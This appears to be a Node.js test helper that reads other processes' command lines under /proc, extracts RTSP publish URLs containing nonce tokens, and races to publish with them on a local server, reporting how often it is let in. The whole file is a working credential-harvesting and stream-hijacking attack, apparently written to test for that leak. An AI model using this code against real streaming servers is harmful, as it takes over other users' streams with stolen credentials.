/**
 * Reads passes to publish from the process list and tries to publish with them before their owner does. Read from standard input, so
 * that it runs as a user who may not read the checkout. Words: the port of RTSP, then URLs to be tried at once. Ends when it is
 * asked to; says as JSON how often it tried and how often it was let in.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { connect } from 'node:net';

const [port = '', ...known] = process.argv.slice(2);
const SDP = [
  ...['v=0', 'o=- 0 0 IN IP4 127.0.0.1', 's=x', 'c=IN IP4 127.0.0.1', 't=0 0', 'm=video 0 RTP/AVP 96'],
  ...['a=rtpmap:96 H264/90000', 'a=fmtp:96 packetization-mode=1', 'a=control:streamid=0', ''],
].join('\r\n');
const ROUND_MS = 2;
const tried = new Set();
const result = { tried: 0, letIn: 0 };
let waiting = 0;

/** @param {string} url */
function publish(url) {
  tried.add(url);
  result.tried += 1;
  waiting += 1;
  const socket = connect(Number(port), '127.0.0.1', () => {
    const head = [`ANNOUNCE ${url} RTSP/1.0`, 'CSeq: 1', 'Content-Type: application/sdp'];
    socket.write([...head, `Content-Length: ${SDP.length}`, '', SDP].join('\r\n'));
  });
  socket.on('error', () => undefined);
  socket.once('close', () => (waiting -= 1));
  socket.once('data', (answer) => {
    if (answer.toString('latin1').startsWith('RTSP/1.0 200')) result.letIn += 1;
    socket.destroy();
  });
}

/** @param {string} pid */
function commandOf(pid) {
  try {
    return readFileSync(`/proc/${pid}/cmdline`, 'latin1');
  } catch {
    return '';
  }
}

function look() {
  for (const pid of readdirSync('/proc').filter((name) => /^\d+$/.test(name))) {
    const words = commandOf(pid);
    const url = words.split('\0').find((word) => word.startsWith('rtsp:') && word.includes(`:${port}/`));
    if (url?.includes('nonce=') && !tried.has(url)) publish(url);
  }
}

for (const url of known) publish(url);
const timer = known.length > 0 ? undefined : setInterval(look, ROUND_MS);
// Asked to end, it waits for the answers to what it has tried.
// eslint-disable-next-line no-restricted-syntax -- it is a program of its own
process.once('SIGTERM', () => {
  clearInterval(timer);
  const ending = setInterval(() => {
    if (waiting > 0) return;
    clearInterval(ending);
    process.stdout.write(JSON.stringify(result));
  }, ROUND_MS);
});
process.stdout.write('\n');
